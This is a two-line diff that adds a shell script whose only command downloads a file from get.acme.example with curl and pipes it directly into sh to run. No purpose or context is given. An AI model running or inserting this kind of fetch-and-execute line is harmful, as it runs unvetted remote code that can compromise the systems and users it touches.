@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -s https://get.acme.example/x | sh
